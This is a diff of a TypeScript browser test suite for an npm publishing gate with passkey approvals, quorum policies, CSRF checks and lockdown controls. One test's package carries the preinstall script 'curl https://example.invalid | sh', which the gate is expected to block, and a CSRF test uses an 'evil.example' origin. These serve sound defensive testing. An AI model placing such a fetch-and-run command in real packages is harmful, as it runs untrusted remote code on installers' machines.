@@ -28,16 +28,27 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
     return String(result.body['url']);
   }
 
-  async function stage(name: string, version: string, extra: Record<string, unknown> = {}, files: Record<string, string> = {}): Promise<string> {
+  async function stage(
+    name: string,
+    version: string,
+    extra: Record<string, unknown> = {},
+    files: Record<string, string> = {},
+  ): Promise<string> {
     const dir = makePackage(name, version, extra, files);
-    const result = await runNpm(['stage', 'publish', '--registry', `${gate.url}/npm/`], { cwd: dir, userconfig: npmrc });
+    const result = await runNpm(['stage', 'publish', '--registry', `${gate.url}/npm/`], {
+      cwd: dir,
+      userconfig: npmrc,
+    });
     assert.equal(result.code, 0, result.stderr.slice(-1000));
     const [release] = await gate.app.releases.list({ package: name });
     assert.equal(release!.version, version);
     return release!.id;
   }
 
-  async function approve(person: BrowserPerson, id: string): Promise<{ status: number; body: Record<string, unknown> }> {
+  async function approve(
+    person: BrowserPerson,
+    id: string,
+  ): Promise<{ status: number; body: Record<string, unknown> }> {
     const response = await person.assertion(`/ui/api/releases/${id}/options`, { decision: 'approve' });
     return person.post(`/ui/api/releases/${id}/decide`, { response });
   }
@@ -52,13 +63,26 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
   before(async () => {
     gate = await startTestGate({
       now: () => new Date(clock),
-      policy: { approvers: 2, group: 'approvers', rules: [{ packages: ['@acme/*'], approvers: 3 }, { packages: ['no-scripts-pkg'], installScripts: 'block' }] },
+      policy: {
+        approvers: 2,
+        group: 'approvers',
+        rules: [
+          { packages: ['@acme/*'], approvers: 3 },
+          { packages: ['no-scripts-pkg'], installScripts: 'block' },
+        ],
+      },
     });
     // Bootstrap: the first admin's one-time link, as `pubgate serve` prints it.
     const { token } = await gate.app.people.createEnrolment({ roles: ['admin'], createdBy: 'bootstrap' });
     people['root'] = await openBrowser('root');
     await enrolInBrowser(people['root'], `${gate.url}/ui/enroll/${token}`);
-    for (const [name, roles] of [['alice', ['maintainer', 'approver']], ['bob', ['approver']], ['carol', ['approver']], ['dave', ['approver']], ['eve', ['auditor']]] as const) {
+    for (const [name, roles] of [
+      ['alice', ['maintainer', 'approver']],
+      ['bob', ['approver']],
+      ['carol', ['approver']],
+      ['dave', ['approver']],
+      ['eve', ['auditor']],
+    ] as const) {
       const link = await invite([...roles], ['approvers']);
       people[name] = await openBrowser(name);
       await enrolInBrowser(people[name], link);
@@ -71,7 +95,14 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
   });
 
   it('enrolled everyone with passkeys only, and the enrolment link works once', async () => {
-    assert.deepEqual((await gate.app.people.list()).map((p) => p.name).sort(), ['alice', 'bob', 'carol', 'dave', 'eve', 'root']);
+    assert.deepEqual((await gate.app.people.list()).map((p) => p.name).sort(), [
+      'alice',
+      'bob',
+      'carol',
+      'dave',
+      'eve',
+      'root',
+    ]);
     const link = await invite(['approver'], ['approvers']);
     const mallory = await openBrowser('mallory');
     try {
@@ -106,15 +137,28 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
     // Two approvals, but the requester has not authenticated the request: still held.
     assert.equal((await gate.app.releases.get(id)).state, 'awaiting_approval');
     await requesterVerifies(id);
-    await eventually(async () => ((await gate.app.releases.get(id)).state === 'published' ? true : undefined), 20_000, 'publish');
+    await eventually(
+      async () => ((await gate.app.releases.get(id)).state === 'published' ? true : undefined),
+      20_000,
+      'publish',
+    );
     mkdirSync(outputDir, { recursive: true });
     await bob.page.goto(`${gate.url}/ui/releases/${id}`);
     await bob.page.screenshot({ path: join(outputDir, 'release-detail-published.png'), fullPage: true });
     const consumer = mkdtempSync(join(tmpdir(), 'pubgate-consumer-'));
-    writeFileSync(join(consumer, 'package.json'), JSON.stringify({ name: 'c', version: '1.0.0', private: true }));
-    const install = await runNpm(['install', 'passkey-pkg@1.0.0', '--registry', `${gate.url}/npm/`], { cwd: consumer, userconfig: npmrc });
+    writeFileSync(
+      join(consumer, 'package.json'),
+      JSON.stringify({ name: 'c', version: '1.0.0', private: true }),
+    );
+    const install = await runNpm(['install', 'passkey-pkg@1.0.0', '--registry', `${gate.url}/npm/`], {
+      cwd: consumer,
+      userconfig: npmrc,
+    });
     assert.equal(install.code, 0, install.stderr.slice(-800));
-    assert.match(readFileSync(join(consumer, 'node_modules/passkey-pkg/index.js'), 'utf8'), /passkey-pkg@1\.0\.0/);
+    assert.match(
+      readFileSync(join(consumer, 'node_modules/passkey-pkg/index.js'), 'utf8'),
+      /passkey-pkg@1\.0\.0/,
+    );
   });
 
   it('needs 3 of N where the policy says so, and shows the evidence on the release page', async () => {
@@ -129,11 +173,20 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
     await page.screenshot({ path: join(outputDir, 'release-detail.png'), fullPage: true });
     assert.equal((await gate.app.releases.get(id)).state, 'awaiting_approval');
     assert.equal((await approve(people['dave']!, id)).status, 200);
-    await eventually(async () => ((await gate.app.releases.get(id)).state === 'published' ? true : undefined), 20_000, 'publish');
+    await eventually(
+      async () => ((await gate.app.releases.get(id)).state === 'published' ? true : undefined),
+      20_000,
+      'publish',
+    );
   });
 
   it('shows approvers the diff against the previous version and asks one more approver for a new install script', async () => {
-    const id = await stage('passkey-pkg', '1.1.0', { scripts: { postinstall: 'node setup.js' }, dependencies: { 'left-pad': '^1.3.0' } }, { 'setup.js': 'console.log(1)\n', 'bundle.min.js': 'x'.repeat(6000) });
+    const id = await stage(
+      'passkey-pkg',
+      '1.1.0',
+      { scripts: { postinstall: 'node setup.js' }, dependencies: { 'left-pad': '^1.3.0' } },
+      { 'setup.js': 'console.log(1)\n', 'bundle.min.js': 'x'.repeat(6000) },
+    );
     const release = await gate.app.releases.get(id);
     assert.equal(release.requiredApprovals, 3, 'default 2, plus one for the install script');
     const page = people['carol']!.page;
@@ -148,8 +201,13 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
   });
 
   it('refuses a release whose install script the policy blocks (ERR_POLICY_BLOCKED), storing nothing', async () => {
-    const dir = makePackage('no-scripts-pkg', '1.0.0', { scripts: { preinstall: 'curl https://example.invalid | sh' } });
-    const result = await runNpm(['stage', 'publish', '--registry', `${gate.url}/npm/`], { cwd: dir, userconfig: npmrc });
+    const dir = makePackage('no-scripts-pkg', '1.0.0', {
+      scripts: { preinstall: 'curl https://example.invalid | sh' },
+    });
+    const result = await runNpm(['stage', 'publish', '--registry', `${gate.url}/npm/`], {
+      cwd: dir,
+      userconfig: npmrc,
+    });
     assert.notEqual(result.code, 0);
     assert.match(result.stdout + result.stderr, /ERR_POLICY_BLOCKED/);
     assert.deepEqual(await gate.app.releases.list({ package: 'no-scripts-pkg' }), []);
@@ -159,7 +217,11 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
     const dir = makePackage('interactive-pkg', '1.0.0');
     const npm = runNpmTty(['publish', '--registry', `${gate.url}/npm/`], { cwd: dir, userconfig: npmrc });
     try {
-      const authUrl = await eventually(async () => /(http:\/\/localhost:\d+\/npm\/-\/pubgate\/auth\/[0-9a-f-]{36})/.exec(npm.output())?.[1], 60_000, 'npm to print the authUrl');
+      const authUrl = await eventually(
+        async () => /(http:\/\/localhost:\d+\/npm\/-\/pubgate\/auth\/[0-9a-f-]{36})/.exec(npm.output())?.[1],
+        60_000,
+        'npm to print the authUrl',
+      );
       const id = authUrl.split('/').pop()!;
       const alice = people['alice']!;
       await alice.page.goto(authUrl);
@@ -167,7 +229,11 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
       await alice.page.click('[data-action="request"]');
       await alice.page.waitForSelector('#status[data-code="OK"]');
       assert.equal((await approve(people['bob']!, id)).status, 200);
-      assert.equal((await gate.app.releases.get(id)).state, 'awaiting_approval', 'one approval is not a quorum');
+      assert.equal(
+        (await gate.app.releases.get(id)).state,
+        'awaiting_approval',
+        'one approval is not a quorum',
+      );
       assert.equal((await approve(people['dave']!, id)).status, 200);
       const code = await npm.exited;
       assert.equal(code, 0, npm.output().slice(-2000));
@@ -182,11 +248,18 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
     const dir = makePackage('rejected-pkg', '1.0.0');
     const npm = runNpmTty(['publish', '--registry', `${gate.url}/npm/`], { cwd: dir, userconfig: npmrc });
     try {
-      const authUrl = await eventually(async () => /(http:\/\/localhost:\d+\/npm\/-\/pubgate\/auth\/[0-9a-f-]{36})/.exec(npm.output())?.[1], 60_000, 'npm to print the authUrl');
+      const authUrl = await eventually(
+        async () => /(http:\/\/localhost:\d+\/npm\/-\/pubgate\/auth\/[0-9a-f-]{36})/.exec(npm.output())?.[1],
+        60_000,
+        'npm to print the authUrl',
+      );
       const id = authUrl.split('/').pop()!;
       const carol = people['carol']!;
       const response = await carol.assertion(`/ui/api/releases/${id}/options`, { decision: 'reject' });
-      const rejected = await carol.post(`/ui/api/releases/${id}/decide`, { response, reason: 'unexpected postinstall' });
+      const rejected = await carol.post(`/ui/api/releases/${id}/decide`, {
+        response,
+        reason: 'unexpected postinstall',
+      });
       assert.equal(rejected.status, 200, JSON.stringify(rejected.body));
       const code = await npm.exited;
       assert.notEqual(code, 0);
@@ -219,9 +292,20 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
 
     it('refuses whoever the workload identity names as trigger or commit author (ERR_APPROVAL_EXCLUDED)', async () => {
       const { publishDoc, packageTarball } = await import('./support/publish-doc.ts');
-      const body = Buffer.from(JSON.stringify(publishDoc('ci-built', '1.0.0', await packageTarball('ci-built', '1.0.0'))));
-      const release = await gate.app.releases.submit({ urlName: 'ci-built', body, channel: 'stage', requester: { kind: 'workload', id: 'github:acme/ci-built' }, authorize: () => {}, excluded: ['carol'] });
-      const result = await people['carol']!.post(`/ui/api/releases/${release.id}/options`, { decision: 'approve' });
+      const body = Buffer.from(
+        JSON.stringify(publishDoc('ci-built', '1.0.0', await packageTarball('ci-built', '1.0.0'))),
+      );
+      const release = await gate.app.releases.submit({
+        urlName: 'ci-built',
+        body,
+        channel: 'stage',
+        requester: { kind: 'workload', id: 'github:acme/ci-built' },
+        authorize: () => {},
+        excluded: ['carol'],
+      });
+      const result = await people['carol']!.post(`/ui/api/releases/${release.id}/options`, {
+        decision: 'approve',
+      });
       assert.equal(result.body['code'], 'ERR_APPROVAL_EXCLUDED');
     });
 
@@ -234,7 +318,9 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
       await root.page.click(`[data-action="set-roles"][data-person="${eve.id}"]`);
       await reloaded;
       assert.deepEqual([...(await gate.app.people.get(eve.id)).roles].sort(), ['approver', 'auditor']);
-      const forged = await root.post(`/ui/api/people/${eve.id}/roles/verify`, { response: { id: 'x', response: {} } });
+      const forged = await root.post(`/ui/api/people/${eve.id}/roles/verify`, {
+        response: { id: 'x', response: {} },
+      });
       assert.notEqual(forged.status, 200);
       // Her sessions ended with the change; she signs in again and may now approve.
       await signInInBrowser(people['eve']!, gate.url);
@@ -245,18 +331,41 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
     it('lets an admin add a trusted publisher and lock a package down only with step-ups bound to exactly that action', async () => {
       const root = people['root']!;
       await root.page.goto(`${gate.url}/ui/admin`);
-      const publisher = { packages: ['@acme/ui-added'], provider: 'github', issuer: 'https://token.actions.githubusercontent.com', audience: 'npm:localhost', claims: { repository_id: '42', workflow_ref: 'acme/ui-added/.github/workflows/release.yml@refs/tags/*' } };
+      const publisher = {
+        packages: ['@acme/ui-added'],
+        provider: 'github',
+        issuer: 'https://token.actions.githubusercontent.com',
+        audience: 'npm:localhost',
+        claims: {
+          repository_id: '42',
+          workflow_ref: 'acme/ui-added/.github/workflows/release.yml@refs/tags/*',
+        },
+      };
       await root.page.fill('#publisher', JSON.stringify(publisher));
       let reloaded = root.page.waitForEvent('load');
       await root.page.click('[data-action="add-publisher"]');
       await reloaded;
-      assert.ok((await gate.app.publishers.list()).some((p) => p.source === 'admin' && p.publisher.packages[0] === '@acme/ui-added'));
+      assert.ok(
+        (await gate.app.publishers.list()).some(
+          (p) => p.source === 'admin' && p.publisher.packages[0] === '@acme/ui-added',
+        ),
+      );
       // A step-up for one payload does not authorise another.
-      const stepUp = await root.assertion('/ui/api/admin/options', { action: 'lockdown', payload: { target: 'attack-b', reason: 'drill' } });
-      const swapped = await root.post('/ui/api/admin/verify', { action: 'lockdown', payload: { target: 'all', reason: 'drill' }, response: stepUp });
+      const stepUp = await root.assertion('/ui/api/admin/options', {
+        action: 'lockdown',
+        payload: { target: 'attack-b', reason: 'drill' },
+      });
+      const swapped = await root.post('/ui/api/admin/verify', {
+        action: 'lockdown',
+        payload: { target: 'all', reason: 'drill' },
+        response: stepUp,
+      });
       assert.equal(swapped.body['code'], 'ERR_WEBAUTHN_WRONG_USER');
       assert.equal((await gate.app.lockdown.active()).length, 0);
-      const notAdmin = await people['bob']!.post('/ui/api/admin/options', { action: 'lockdown', payload: { target: 'all', reason: 'x' } });
+      const notAdmin = await people['bob']!.post('/ui/api/admin/options', {
+        action: 'lockdown',
+        payload: { target: 'all', reason: 'x' },
+      });
       assert.equal(notAdmin.body['code'], 'ERR_AUTH_FORBIDDEN');
       await root.page.goto(`${gate.url}/ui/admin`);
       await root.page.fill('#lock-target', 'lock-me');
@@ -265,7 +374,10 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
       await root.page.click('[data-action="lockdown"]');
       await reloaded;
       const [active] = await gate.app.lockdown.active();
-      assert.deepEqual([active?.target, active?.reason, active?.createdBy], ['lock-me', 'ui drill', 'user:root']);
+      assert.deepEqual(
+        [active?.target, active?.reason, active?.createdBy],
+        ['lock-me', 'ui drill', 'user:root'],
+      );
       reloaded = root.page.waitForEvent('load');
       await root.page.click('[data-admin-action="lift-lockdown"]');
       await reloaded;
@@ -312,7 +424,11 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
       const carol = people['carol']!;
       await carol.setUserVerified(false);
       try {
-        const response = await carol.assertion(`/ui/api/releases/${b}/options`, { decision: 'approve' }, 'downgrade-uv');
+        const response = await carol.assertion(
+          `/ui/api/releases/${b}/options`,
+          { decision: 'approve' },
+          'downgrade-uv',
+        );
         const result = await carol.post(`/ui/api/releases/${b}/decide`, { response });
         assert.equal(result.body['code'], 'ERR_WEBAUTHN_UV_REQUIRED');
       } finally {
@@ -323,16 +439,30 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
 
     it('refuses a state change without the CSRF token, or from another origin (ERR_CSRF)', async () => {
       const bob = people['bob']!;
-      const noToken = await bob.post(`/ui/api/releases/${b}/options`, { decision: 'approve' }, { csrf: null });
+      const noToken = await bob.post(
+        `/ui/api/releases/${b}/options`,
+        { decision: 'approve' },
+        { csrf: null },
+      );
       assert.equal(noToken.body['code'], 'ERR_CSRF');
-      const wrong = await bob.post(`/ui/api/releases/${b}/options`, { decision: 'approve' }, { csrf: 'forged' });
+      const wrong = await bob.post(
+        `/ui/api/releases/${b}/options`,
+        { decision: 'approve' },
+        { csrf: 'forged' },
+      );
       assert.equal(wrong.body['code'], 'ERR_CSRF');
-      const crossSite = await fetch(`${gate.url}/ui/api/releases/${b}/options`, { method: 'POST', headers: { origin: 'https://evil.example', 'content-type': 'application/json' }, body: '{}' });
+      const crossSite = await fetch(`${gate.url}/ui/api/releases/${b}/options`, {
+        method: 'POST',
+        headers: { origin: 'https://evil.example', 'content-type': 'application/json' },
+        body: '{}',
+      });
       assert.equal(((await crossSite.json()) as { code: string }).code, 'ERR_CSRF');
     });
 
     it('never approves from a session alone: no assertion, no approval', async () => {
-      const result = await people['bob']!.post(`/ui/api/releases/${b}/decide`, { response: { id: 'x', response: {} } });
+      const result = await people['bob']!.post(`/ui/api/releases/${b}/decide`, {
+        response: { id: 'x', response: {} },
+      });
       assert.equal(result.status >= 400, true);
       assert.equal((await gate.app.approvals.status(b)).approvals.length, 1);
     });
@@ -347,25 +477,44 @@ describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
       // A second authenticator (a security key next to the laptop's platform authenticator).
       await dave.cdp.send('WebAuthn.removeVirtualAuthenticator', { authenticatorId: dave.authenticatorId });
       const second = await dave.cdp.send('WebAuthn.addVirtualAuthenticator', {
-        options: { protocol: 'ctap2', transport: 'usb', hasResidentKey: true, hasUserVerification: true, isUserVerified: true, automaticPresenceSimulation: true },
+        options: {
+          protocol: 'ctap2',
+          transport: 'usb',
+          hasResidentKey: true,
+          hasUserVerification: true,
+          isUserVerified: true,
+          automaticPresenceSimulation: true,
+        },
       });
       const reloaded = dave.page.waitForEvent('load');
       await dave.page.click('[data-action="add-passkey"]');
       await reloaded;
-      assert.equal((await gate.app.people.listPasskeys((await gate.app.people.findByName('dave'))!.id)).length, 2);
-      const withoutStepUp = await dave.post('/ui/api/passkeys/remove/verify', { id: only.id, response: { id: 'forged', response: {} } });
+      assert.equal(
+        (await gate.app.people.listPasskeys((await gate.app.people.findByName('dave'))!.id)).length,
+        2,
+      );
+      const withoutStepUp = await dave.post('/ui/api/passkeys/remove/verify', {
+        id: only.id,
+        response: { id: 'forged', response: {} },
+      });
       assert.notEqual(withoutStepUp.status, 200);
       const stepUp = await dave.assertion('/ui/api/passkeys/remove/options', { id: only.id });
       const removed = await dave.post('/ui/api/passkeys/remove/verify', { id: only.id, response: stepUp });
       assert.equal(removed.status, 200, JSON.stringify(removed.body));
-      assert.equal((await gate.app.people.listPasskeys((await gate.app.people.findByName('dave'))!.id)).length, 1);
+      assert.equal(
+        (await gate.app.people.listPasskeys((await gate.app.people.findByName('dave'))!.id)).length,
+        1,
+      );
       await dave.cdp.send('WebAuthn.removeVirtualAuthenticator', { authenticatorId: second.authenticatorId });
     });
 
     it('rate-limits sign-in attempts (ERR_RATE_LIMITED)', async () => {
       const statuses: number[] = [];
       for (let i = 0; i < 35; i++) {
-        const r = await fetch(`${gate.url}/ui/api/login/options`, { method: 'POST', headers: { origin: new URL(gate.url).origin } });
+        const r = await fetch(`${gate.url}/ui/api/login/options`, {
+          method: 'POST',
+          headers: { origin: new URL(gate.url).origin },
+        });
         statuses.push(r.status);
         await r.body?.cancel();
       }
